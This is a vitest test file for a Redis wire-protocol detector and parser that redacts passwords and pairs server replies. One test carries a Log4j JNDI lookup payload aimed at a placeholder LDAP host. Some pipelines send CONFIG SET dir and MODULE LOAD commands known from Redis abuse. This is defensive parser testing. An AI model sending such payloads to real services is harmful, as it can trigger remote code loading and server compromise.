import type { ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { redis } from '#sidecar/protocols/redis.ts';
import {
  freePort,
  hasBinaries,
  type RecordingProxy,
  run,
  startDaemon,
  startRecordingProxy,
  stopDaemon,
  waitForPort,
} from '#test/fixtures/protocols/live-servers.ts';
import {
  ascii,
  concat,
  contractCheck,
  detectFlow,
  engineLabel,
  everySplitAgrees,
  feed,
  feedByteByByte,
  ndpiFlows,
  type Segment,
} from '#test/fixtures/protocols/protocol-harness.ts';
import { samplesExcept } from '#test/fixtures/protocols/wire-samples.ts';

// Written from the RESP specification (redis.io/docs/reference/protocol-spec): arrays `*N\r\n` of bulk
// strings `$L\r\n<L bytes>\r\n`; replies `+simple`, `-error`, `:integer`, `$bulk`, RESP3 `%map`, `>push`, `|attribute`.
const resp = (...args: string[]): Uint8Array =>
  ascii(`*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')}`);

const session: Segment[] = [
  ['to-server', resp('AUTH', 'app', 's3cret')],
  ['to-client', ascii('+OK\r\n')],
  ['to-server', resp('HELLO', '3')],
  // RESP3 map reply to HELLO (two pairs shown), with a nested array value.
  ['to-client', ascii('%2\r\n$6\r\nserver\r\n$5\r\nredis\r\n$7\r\nmodules\r\n*1\r\n$6\r\nsearch\r\n')],
  ['to-server', ascii('*3\r\n$3\r\nSET\r\n$4\r\nuser\r\n$5\r\nalice\r\n*2\r\n$3\r\nGET\r\n$4\r\nuser\r\n')],
  // An attribute before the reply, and a push message in between (RESP3): neither is a reply of its own.
  [
    'to-client',
    ascii('|1\r\n+ttl\r\n:3600\r\n+OK\r\n>3\r\n$7\r\nmessage\r\n$2\r\nch\r\n$2\r\nhi\r\n$5\r\nalice\r\n'),
  ],
];

describe('redis detect', () => {
  it('matches a minimal and a realistic RESP command', () => {
    expect(redis.detect(resp('PING'), 'to-server')).toBe('match');
    expect(redis.detect(resp('set', 'test', 'Hello world!'), 'to-server')).toBe('match');
    expect(redis.detect(resp('FT.SEARCH', 'idx', '@title:hello'), 'to-server')).toBe('match');
  });

  it('matches inline commands only with a known, unambiguous name', () => {
    expect(redis.detect(ascii('KEYS *\r\n'), 'to-server')).toBe('match');
    expect(redis.detect(ascii('hgetall user:1\n'), 'to-server')).toBe('match');
    expect(redis.detect(ascii('get user:42\r\n'), 'to-server')).toBe('no-match');
    expect(redis.detect(ascii('PING\r\n'), 'to-server')).toBe('no-match');
    expect(redis.detect(ascii('KEYSTONE now\r\n'), 'to-server')).toBe('no-match');
    expect(redis.detect(ascii('FOO bar\r\n'), 'to-server')).toBe('no-match');
  });

  it('needs more on a too-short prefix', () => {
    const bytes = resp('COMMAND');
    for (let n = 1; n < bytes.length; n++)
      expect(redis.detect(bytes.subarray(0, n), 'to-server')).toBe('need-more');
    expect(redis.detect(ascii('HGE'), 'to-server')).toBe('need-more');
    expect(redis.detect(ascii('KEYS us'), 'to-server')).toBe('need-more');
  });

  it('never matches server bytes, and rejects arrays with a bad element', () => {
    expect(redis.detect(ascii('+OK\r\n'), 'to-client')).toBe('no-match');
    expect(redis.detect(ascii('*1\r\n:12\r\n'), 'to-server')).toBe('no-match');
    expect(redis.detect(ascii('*1\r\n$3\r\nA;B\r\n'), 'to-server')).toBe('no-match');
  });

  it('says no-match on every other protocol sample', () => {
    for (const sample of samplesExcept('redis')) {
      expect([sample.protocol, redis.detect(sample.bytes, sample.direction)]).not.toEqual([
        sample.protocol,
        'match',
      ]);
    }
  });
});

/** The authentication outcomes among a parser's events. */
const dbAuth = (events: unknown[]) => events.filter((e) => (e as { kind: string }).kind === 'db-auth');

describe('redis parser', () => {
  const expected = [
    { kind: 'redis-command', direction: 'to-server', command: 'AUTH', args: ['app', '***'], seq: 0 },
    { kind: 'db-auth', direction: 'to-client', dialect: 'redis', ok: true, user: 'app' },
    { kind: 'redis-command', direction: 'to-server', command: 'HELLO', args: ['3'], seq: 1 },
    { kind: 'redis-command', direction: 'to-server', command: 'SET', args: ['user', 'alice'], seq: 2 },
    { kind: 'redis-command', direction: 'to-server', command: 'GET', args: ['user'], seq: 3 },
  ];

  it('emits commands (password redacted) and the AUTH outcome, through RESP3 maps, attributes and pushes', () => {
    expect(feed(redis, session)).toEqual(expected);
  });

  it('gives the same events for every split point and byte by byte', () => {
    expect(everySplitAgrees(redis, session).mismatch).toBeUndefined();
    expect(feedByteByByte(redis, session)).toEqual(expected);
  });

  it('reports WRONGPASS after AUTH and NOAUTH on any command', () => {
    const events = feed(redis, [
      ['to-server', ascii('AUTH hunter2\r\n')],
      ['to-client', ascii('-WRONGPASS invalid username-password pair or user is disabled.\r\n')],
      ['to-server', resp('GET', 'k')],
      ['to-client', ascii('-NOAUTH Authentication required.\r\n')],
    ]);
    expect(events).toEqual([
      { kind: 'redis-command', direction: 'to-server', command: 'AUTH', args: ['***'], seq: 0 },
      {
        kind: 'db-auth',
        direction: 'to-client',
        dialect: 'redis',
        ok: false,
        message: 'WRONGPASS invalid username-password pair or user is disabled.',
      },
      { kind: 'redis-command', direction: 'to-server', command: 'GET', args: ['k'], seq: 1 },
      {
        kind: 'db-auth',
        direction: 'to-client',
        dialect: 'redis',
        ok: false,
        message: 'NOAUTH Authentication required.',
      },
    ]);
  });

  it('redacts the password of HELLO ... AUTH user pass', () => {
    expect(feed(redis, [['to-server', resp('HELLO', '3', 'AUTH', 'app', 'pw')]])).toEqual([
      {
        kind: 'redis-command',
        direction: 'to-server',
        command: 'HELLO',
        args: ['3', 'AUTH', 'app', '***'],
        seq: 0,
      },
    ]);
  });

  it('keeps every argument of a command past the 32nd, as the commands after it (ADR 35)', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
    const jndi = '${jndi:ldap://198.51.100.7/a}';
    const pairs = Array.from({ length: 20 }, (_, i) => [`k${i}`, `v${i}`]).flat();
    const segments: Segment[] = [
      ['to-server', resp('MSET', ...pairs, 'key', jndi)],
      ['to-server', resp('GET', 'k1')],
    ];
    for (const events of [feed(redis, segments), feedByteByByte(redis, segments)]) {
      const [mset, get] = events as { args: string[] }[];
      expect(mset?.args).toEqual([...pairs, 'key', jndi]);
      expect(get?.args).toEqual(['k1']);
    }
  });

  it('bounds the arguments it holds in octets: 64 KiB of them, then none, and the next command whole', () => {
    // A command's arguments are held until its last one arrives: 20,000 of them keep the first 64 KiB (each
    // argument counted with 16 octets for holding it), not a count.
    const many = Array.from({ length: 20_000 }, (_, i) => `a${i}`);
    const events = feed(redis, [
      ['to-server', resp('RPUSH', 'list', ...many)],
      ['to-server', resp('GET', 'k1')],
    ]) as { command: string; args: string[] }[];
    const args = events[0]?.args ?? [];
    expect(args.slice(0, 3)).toEqual(['list', 'a0', 'a1']);
    expect(args.length).toBeGreaterThan(3000);
    expect(args.length).toBeLessThan(many.length);
    expect(args.reduce((n, a) => n + a.length + 16, 'RPUSH'.length + 16)).toBeLessThanOrEqual(64 * 1024);
    expect(events[1]).toMatchObject({ command: 'GET', args: ['k1'] });
  });

  it('survives a 100 KiB bulk string and stops on a malformed length', () => {
    const big = resp('SET', 'k', 'v'.repeat(100_000));
    expect(
      feed(redis, [
        ['to-server', big],
        ['to-server', resp('DBSIZE')],
      ]).length,
    ).toBe(2);
    expect(
      feed(redis, [
        ['to-server', ascii('*1\r\n$x\r\nPING\r\n')],
        ['to-server', resp('DBSIZE')],
      ]),
    ).toEqual([]);
  });

  it('skips nested reply elements, a long bulk string among them, and still pairs the next reply with AUTH', () => {
    const nested = `*3\r\n*2\r\n+a\r\n:1\r\n$70000\r\n${'x'.repeat(70_000)}\r\n%1\r\n$1\r\nk\r\n~2\r\n_\r\n#t\r\n`;
    const segments: Segment[] = [
      ['to-server', resp('COMMAND')],
      ['to-server', resp('AUTH', 'bob', 'pw')],
      ['to-client', ascii(nested)],
      ['to-client', ascii('-WRONGPASS invalid username-password pair\r\n')],
    ];
    const denied = {
      kind: 'db-auth',
      direction: 'to-client',
      dialect: 'redis',
      ok: false,
      user: 'bob',
      message: 'WRONGPASS invalid username-password pair',
    };
    expect(dbAuth(feed(redis, segments))).toEqual([denied]);
    expect(dbAuth(feedByteByByte(redis, segments))).toEqual([denied]);
  });

  it('stops reading replies at a malformed element inside an aggregate', () => {
    const events = feed(redis, [
      ['to-server', resp('AUTH', 'pw')],
      ['to-client', ascii('*2\r\n+a\r\n$x\r\nb\r\n-WRONGPASS no\r\n')],
    ]);
    expect(dbAuth(events)).toEqual([]);
  });

  it('passes the local contract check', () => {
    expect(contractCheck(redis, ['to-server', resp('GET', 'k')]).randomMatches).toBe(0);
  });
});

/** The answers told among a parser's events, without their kind, direction and time. */
const replies = (events: unknown[]) =>
  (events as { kind: string; direction?: string; ts?: number }[])
    .filter((e) => e.kind === 'redis-reply')
    .map(({ kind: _kind, direction: _direction, ts: _ts, ...rest }) => rest);

describe('redis replies', () => {
  // Pipelined: the commands in one segment, the answers in another, in order (a data command's answer is counted,
  // not told); a RESP3 attribute and push in between are no answers.
  const pipelined: Segment[] = [
    [
      'to-server',
      concat(
        resp('CONFIG', 'SET', 'dir', '/tmp'),
        resp('GET', 'k'),
        resp('SAVE'),
        resp('MULTI'),
        resp('FLUSHALL'),
        resp('EXEC'),
        resp('EVAL', 'return 1', '0'),
        resp('SCRIPT', 'FLUSH'),
      ),
    ],
    [
      'to-client',
      ascii(
        "+OK\r\n$1\r\nv\r\n-NOPERM User app has no permissions to run the 'save' command\r\n+OK\r\n" +
          '+QUEUED\r\n>2\r\n$10\r\ninvalidate\r\n$1\r\nk\r\n*1\r\n+OK\r\n|1\r\n+ttl\r\n:1\r\n:1\r\n' +
          '!21\r\nSYNTAX invalid syntax\r\n',
      ),
    ],
  ];
  const told = [
    { command: 'CONFIG', seq: 0, outcome: 'ok' },
    { command: 'SAVE', seq: 2, outcome: 'error', error: 'NOPERM' },
    { command: 'FLUSHALL', seq: 4, outcome: 'queued' },
    { command: 'EVAL', seq: 6, outcome: 'ok' },
    { command: 'SCRIPT', seq: 7, outcome: 'error', error: 'SYNTAX' },
  ];

  it('pairs each answer with its command by order, pipelined, and tells those of server commands', () => {
    expect(replies(feed(redis, pipelined))).toEqual(told);
  });

  it('gives the same answers for every split point and byte by byte', () => {
    expect(everySplitAgrees(redis, pipelined).mismatch).toBeUndefined();
    expect(replies(feedByteByByte(redis, pipelined))).toEqual(told);
  });

  // Each server answers the way it does after the first command; paired by order, an answer would go to the wrong one.
  it.each([
    [
      'a subscription (RESP2: one answer per channel, then refusals)',
      concat(resp('SUBSCRIBE', 'a', 'b'), resp('CONFIG', 'SET', 'dir', '/tmp'), resp('SAVE')),
      '*3\r\n$9\r\nsubscribe\r\n$1\r\na\r\n:1\r\n*3\r\n$9\r\nsubscribe\r\n$1\r\nb\r\n:2\r\n' +
        "-ERR Can't execute 'config|set'\r\n-ERR Can't execute 'save'\r\n",
    ],
    [
      'CLIENT REPLY SKIP (no answer to it, nor to the next command)',
      concat(
        resp('CLIENT', 'REPLY', 'SKIP'),
        resp('CONFIG', 'SET', 'dir', '/tmp'),
        resp('CONFIG', 'GET', 'dir'),
        resp('SAVE'),
      ),
      '*2\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n-ERR x\r\n',
    ],
    [
      'MONITOR (then a stream of status lines)',
      concat(resp('MONITOR'), resp('CONFIG', 'SET', 'dir', '/tmp')),
      '+OK\r\n+1700000000.1 [0 10.0.0.5:40000] "ping"\r\n',
    ],
  ])('stops pairing after %s', (_, commands, answers) => {
    const events = feed(redis, [
      ['to-server', commands],
      ['to-client', ascii(answers)],
    ]);
    expect(replies(events)).toEqual([]);
  });

  it('tells an error sent before any command (protected mode refusing the connection) as the answer to every command', () => {
    const denied = '-DENIED Redis is running in protected mode because protected mode is enabled\r\n';
    const events = feed(redis, [
      ['to-client', ascii(denied)],
      ['to-server', resp('CONFIG', 'SET', 'dir', '/tmp')],
    ]);
    expect(replies(events)).toEqual([{ command: '', seq: 0, outcome: 'error', error: 'DENIED' }]);
    const other = feed(redis, [
      ['to-client', ascii('-ERR unknown command\r\n')],
      ['to-server', resp('CONFIG', 'SET', 'dir', '/tmp')],
    ]);
    expect(replies(other)).toEqual([]);
  });

  it('resets the pairing on a gap', () => {
    const parser = redis.createParser();
    parser.parse(resp('CONFIG', 'SET', 'dir', '/tmp'), 'to-server', 1);
    parser.gap('to-server');
    expect(replies(parser.parse(ascii('+OK\r\n'), 'to-client', 2))).toEqual([]);
  });

  it('bounds the commands awaiting answers: past 256 (answers unseen), pairing stops', () => {
    const parser = redis.createParser();
    const asks = concat(...Array.from({ length: 256 }, () => resp('CONFIG', 'GET', 'dir')));
    parser.parse(asks, 'to-server', 1);
    expect(replies(parser.parse(ascii('+OK\r\n'), 'to-client', 2))).toEqual([
      { command: 'CONFIG', seq: 0, outcome: 'ok' },
    ]);
    parser.parse(concat(resp('CONFIG', 'GET', 'dir'), resp('CONFIG', 'GET', 'dir')), 'to-server', 3);
    expect(replies(parser.parse(ascii('+OK\r\n'), 'to-client', 4))).toEqual([]);
  });
});

describe('redis on nDPI resp.pcap (real bytes)', () => {
  it('detects the flow and reads its commands through a 90 KiB COMMAND reply', () => {
    const [flow] = ndpiFlows('redis');
    expect(detectFlow(redis, flow?.segments ?? [])).toBe(true);
    const commands = (feed(redis, flow?.segments ?? []) as { command?: string }[]).map((e) => e.command);
    expect(commands.slice(0, 4)).toEqual(['COMMAND', 'PING', 'SET', 'GET']);
  });
});

describe('redis among every registered protocol (engine order, first match wins)', () => {
  it('labels every nDPI flow redis', () => {
    const flows = ndpiFlows('redis');
    expect(flows.map((f) => engineLabel(f.segments))).toEqual(flows.map(() => 'redis'));
  });
});

const redisBinaries = hasBinaries('/usr/bin/redis-server', '/usr/bin/redis-cli');

describe.skipIf(!redisBinaries)(
  'redis against a real redis-server and redis-cli (Debian redis-server, redis-tools)',
  () => {
    let server: ChildProcess | undefined;
    let proxy: RecordingProxy | undefined;

    beforeAll(async () => {
      const port = await freePort();
      server = startDaemon('/usr/bin/redis-server', [
        '--port',
        String(port),
        '--bind',
        '127.0.0.1',
        '--save',
        '',
        '--appendonly',
        'no',
        '--requirepass',
        's3cret',
      ]);
      await waitForPort(port);
      proxy = await startRecordingProxy(port);
    });

    afterAll(async () => {
      await proxy?.close();
      await stopDaemon(server);
    });

    it('reads a refused and an accepted login and the commands, and labels both connections redis', async () => {
      const port = String(proxy?.port);
      const refused = await run('/usr/bin/redis-cli', [
        '-p',
        port,
        '--user',
        'default',
        '--pass',
        'wrong',
        '--no-auth-warning',
        'ping',
      ]);
      // redis-cli reports the failed AUTH on stderr, then sends PING anyway and gets NOAUTH.
      expect(`${refused.stderr}${refused.stdout}`).toMatch(/WRONGPASS[\s\S]*NOAUTH/);
      const accepted = await run('/usr/bin/redis-cli', [
        '-p',
        port,
        '-a',
        's3cret',
        '--no-auth-warning',
        'set',
        'user:1',
        'alice',
      ]);
      expect(accepted.stdout.trim()).toBe('OK');
      const [first = [], second = []] = proxy?.connections ?? [];
      const events = [...feed(redis, first), ...feed(redis, second)] as {
        kind: string;
        ok?: boolean;
        command?: string;
      }[];
      expect(events.filter((e) => e.kind === 'db-auth').map((e) => e.ok)).toEqual([false, false, true]);
      expect(events.filter((e) => e.kind === 'redis-command').map((e) => e.command)).toEqual(
        expect.arrayContaining(['AUTH', 'PING', 'SET']),
      );
      expect(JSON.stringify(events)).not.toContain('s3cret');
      expect([engineLabel(first), engineLabel(second)]).toEqual(['redis', 'redis']);
      expect(everySplitAgrees(redis, second).mismatch).toBeUndefined();
    });

    it("pairs the real server's answers to a pipeline: refusals (a protected config, the module command, an ACL), MULTI, a script error", async () => {
      const pipeline = concat(
        resp('AUTH', 'default', 's3cret'),
        resp('CONFIG', 'SET', 'dir', '/tmp'),
        resp('CONFIG', 'GET', 'dir'),
        resp('MODULE', 'LOAD', '/tmp/meshward-no-such-module.so'),
        resp('SET', 'k', 'v'),
        resp('MULTI'),
        resp('CONFIG', 'GET', 'maxmemory'),
        resp('EXEC'),
        resp('EVAL', "return redis.call('nope')", '0'),
        resp('ACL', 'SETUSER', 'app', 'on', '>apppw', '~*', '+@all', '-@admin', '-@dangerous'),
        resp('AUTH', 'app', 'apppw'),
        resp('CONFIG', 'GET', 'dir'),
        resp('QUIT'),
      );
      // One write; the server answers each command in order, then closes after QUIT.
      const socket = net.connect(proxy?.port ?? 0, '127.0.0.1');
      socket.on('data', () => undefined);
      await once(socket, 'connect');
      socket.write(pipeline);
      await once(socket, 'end');
      socket.destroy();
      const segments = proxy?.connections.at(-1) ?? [];
      const events = feed(redis, segments);
      expect(replies(events)).toEqual([
        { command: 'CONFIG', seq: 1, outcome: 'error', error: 'ERR' },
        { command: 'CONFIG', seq: 2, outcome: 'ok' },
        { command: 'MODULE', seq: 3, outcome: 'error', error: 'ERR' },
        { command: 'CONFIG', seq: 6, outcome: 'queued' },
        { command: 'EVAL', seq: 8, outcome: 'error', error: 'ERR' },
        { command: 'ACL', seq: 9, outcome: 'ok' },
        { command: 'CONFIG', seq: 11, outcome: 'error', error: 'NOPERM' },
      ]);
      expect(dbAuth(events).map((e) => (e as { ok: boolean; user?: string }).user)).toEqual([
        'default',
        'app',
      ]);
      expect(replies(feedByteByByte(redis, segments))).toEqual(replies(events));
    });
  },
);
